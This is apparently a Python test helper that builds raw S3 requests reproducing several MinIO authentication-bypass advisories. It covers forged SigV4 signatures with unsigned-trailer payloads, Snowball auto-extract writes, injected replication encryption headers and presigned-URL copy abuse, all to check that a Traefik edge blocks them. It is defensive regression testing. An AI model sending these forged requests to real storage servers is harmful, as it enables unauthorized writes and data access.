"""Raw S3 requests for the attack regression tests (tests/integration/roles/test_route_attacks.py).

Each attack is an `S3Request` built once and sent unchanged to two endpoints: MinIO itself on
127.0.0.1 (the control, proving the pinned build is vulnerable) and the public S3 route through
Traefik (where the edge defence must refuse it). Requests that carry a real signature are signed
per endpoint (the Host header is part of the signature); the forged ones are byte-identical.
Signing uses botocore; the forgeries are written by hand from the advisories' descriptions.
"""

from __future__ import annotations

import base64
import datetime
import http.client
import io
import ssl
import tarfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

from botocore.auth import S3SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

REGION = "us-east-1"
UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
FORGED_SIGNATURE = "0" * 64


@dataclass(frozen=True)
class Endpoint:
    """Where a request goes: `direct` (MinIO, plain HTTP) or `route` (Traefik, TLS with the test CA)."""

    label: str
    scheme: str
    host: str
    port: int
    ca_file: Path | None = None

    @property
    def url(self) -> str:
        return f"{self.scheme}://{self.host}:{self.port}"

    def connection(self) -> http.client.HTTPConnection:
        if self.scheme == "https":
            context = ssl.create_default_context(cafile=str(self.ca_file))
            return http.client.HTTPSConnection(self.host, self.port, context=context, timeout=60)
        return http.client.HTTPConnection(self.host, self.port, timeout=60)


@dataclass
class Answer:
    status: int
    headers: dict
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")


@dataclass
class S3Request:
    method: str
    path: str
    query: str = ""
    headers: dict = field(default_factory=dict)
    body: bytes = b""

    @property
    def target(self) -> str:
        return self.path + ("?" + self.query if self.query else "")

    def describe(self) -> str:
        """One line for assertion messages and the report (no secret is ever in these requests)."""
        shown = {k: (v if len(v) < 120 else v[:117] + "...") for k, v in self.headers.items()}
        return f"{self.method} {self.target} headers={shown} body={len(self.body)} bytes"


def send(endpoint: Endpoint, request: S3Request) -> Answer:
    """Send exactly this request (http.client adds only Host, and Content-Length for a body)."""
    conn = endpoint.connection()
    try:
        headers = dict(request.headers)
        if request.body or request.method in ("PUT", "POST"):
            headers.setdefault("Content-Length", str(len(request.body)))
        conn.request(request.method, request.target, body=request.body or None, headers=headers)
        resp = conn.getresponse()
        return Answer(resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read())
    finally:
        conn.close()


def signed(endpoint: Endpoint, request: S3Request, access_key: str, secret_key: str) -> S3Request:
    """A copy of `request` carrying a valid SigV4 header signature for `endpoint`'s Host."""
    aws = AWSRequest(method=request.method, url=endpoint.url + request.target, data=request.body,
                     headers=dict(request.headers))
    S3SigV4Auth(Credentials(access_key, secret_key), "s3", REGION).add_auth(aws)
    return S3Request(request.method, request.path, request.query, dict(aws.headers.items()), request.body)


def target_of(url: str) -> tuple[str, str]:
    """(path, query) of a presigned URL."""
    parts = urlsplit(url)
    return parts.path, parts.query


# --- the forged pieces ---------------------------------------------------------------

def amz_now() -> tuple[str, str]:
    """(X-Amz-Date, credential scope date) for now, in UTC."""
    now = datetime.datetime.now(datetime.timezone.utc)
    return now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")


def credential(access_key: str, day: str) -> str:
    return f"{access_key}/{day}/{REGION}/s3/aws4_request"


def forged_authorization(access_key: str, day: str) -> str:
    """A well-formed SigV4 Authorization header whose signature is made up (only the key id is real)."""
    return (f"AWS4-HMAC-SHA256 Credential={credential(access_key, day)}, "
            f"SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={FORGED_SIGNATURE}")


def crc32_b64(data: bytes) -> str:
    return base64.b64encode(zlib.crc32(data).to_bytes(4, "big")).decode()


def aws_chunked(data: bytes) -> bytes:
    """`data` as one aws-chunked chunk, the final chunk and a CRC32 trailer (what SDKs send)."""
    return (b"%x\r\n" % len(data) + data + b"\r\n0\r\n"
            + f"x-amz-checksum-crc32:{crc32_b64(data)}\r\n\r\n".encode())


def tar_archive(files: dict) -> bytes:
    """A tar holding {name: bytes}."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# --- the attacks ---------------------------------------------------------------------

def snowball_forged(bucket: str, prefix: str, access_key: str, archive: bytes,
                    extract_value: str = "true") -> S3Request:
    """GHSA-9c4q-hq6p-c237: Snowball auto-extract PUT, unsigned-trailer payload, forged signature.

    PutObjectExtractHandler has no case for the unsigned-trailer auth type, so nothing checks the
    signature; it reads the body as the raw tar and writes its files under `prefix` (the backend's
    key may only write below its own prefix). MinIO routes to it when the header value matches
    the regexp `true` anywhere in the value.
    """
    amz_date, day = amz_now()
    return S3Request("PUT", f"/{bucket}/{prefix}upload.tar", headers={
        "Authorization": forged_authorization(access_key, day),
        "X-Amz-Date": amz_date,
        "X-Amz-Content-Sha256": UNSIGNED_TRAILER,
        "X-Amz-Meta-Snowball-Auto-Extract": extract_value,
        "X-Amz-Meta-Minio-Snowball-Prefix": prefix.rstrip("/"),
        "Content-Type": "application/x-tar",
    }, body=archive)


def query_credential_forged(bucket: str, key: str, access_key: str, data: bytes) -> S3Request:
    """GHSA-hv4r-mvr4-25vw: PutObject with presign-style query credentials, unsigned trailer, forged signature.

    PutObjectHandler checks the unsigned-trailer signature only when an Authorization header is
    present; with the credential in the query string it checks nothing.
    """
    amz_date, day = amz_now()
    query = "&".join([
        "X-Amz-Algorithm=AWS4-HMAC-SHA256",
        "X-Amz-Credential=" + credential(access_key, day).replace("/", "%2F"),
        "X-Amz-Date=" + amz_date,
        "X-Amz-Expires=3600",
        "X-Amz-SignedHeaders=host",
        "X-Amz-Signature=" + FORGED_SIGNATURE,
    ])
    return S3Request("PUT", f"/{bucket}/{key}", query, {
        "X-Amz-Content-Sha256": UNSIGNED_TRAILER,
        "Content-Encoding": "aws-chunked",
        "X-Amz-Decoded-Content-Length": str(len(data)),
        "X-Amz-Trailer": "x-amz-checksum-crc32",
        "Content-Type": "text/plain",
    }, aws_chunked(data))


def replication_sse_put(bucket: str, key: str, data: bytes, entropy: bytes) -> S3Request:
    """GHSA-3rh2-v3gr-35p9: a normal PutObject (to be signed) with client-sent X-Minio-Replication-* headers.

    extractMetadataFromMime maps them to X-Minio-Internal-Server-Side-Encryption-* without checking
    that the request is replication: the object then claims SSE-C with a key that does not exist.
    `entropy` (96 random bytes) makes up the fake sealed key and IV.
    """
    return S3Request("PUT", f"/{bucket}/{key}", headers={
        "Content-Type": "text/plain",
        "X-Minio-Replication-Server-Side-Encryption-Sealed-Key": base64.b64encode(entropy[:64]).decode(),
        "X-Minio-Replication-Server-Side-Encryption-Seal-Algorithm": "DARE-SHA256",
        "X-Minio-Replication-Server-Side-Encryption-Iv": base64.b64encode(entropy[64:96]).decode(),
    }, body=data)


def list_request(bucket: str, prefix: str) -> S3Request:
    """ListObjectsV2 of one prefix (to be signed)."""
    return S3Request("GET", f"/{bucket}", f"list-type=2&prefix={prefix.replace('/', '%2F')}")


def presigned_copy(presigned_put_url: str, copy_source: str) -> S3Request:
    """Silo SN-2026-011: a presigned PUT (signs only `host`) plus an unsigned x-amz-copy-source header.

    MinIO routes a PUT with that header to CopyObject and accepts the presigned signature, so whoever
    holds an upload URL for one key copies any object the signer may read into it.
    """
    path, query = target_of(presigned_put_url)
    return S3Request("PUT", path, query, {"X-Amz-Copy-Source": copy_source})


SELECT_CSV = b"unit,owner,share\n1A,Dupont,120\n2B,Peeters,95\n3C,Janssens,85\n"


def select_params(bucket: str, key: str) -> dict:
    """boto3 select_object_content arguments (POST /bucket/key?select&select-type=2): GHSA-h749-fxx7-pwpg."""
    return {
        "Bucket": bucket, "Key": key, "ExpressionType": "SQL",
        "Expression": "SELECT s.owner FROM S3Object s WHERE CAST(s.share AS INT) > 90",
        "InputSerialization": {"CSV": {"FileHeaderInfo": "USE"}},
        "OutputSerialization": {"CSV": {}},
    }
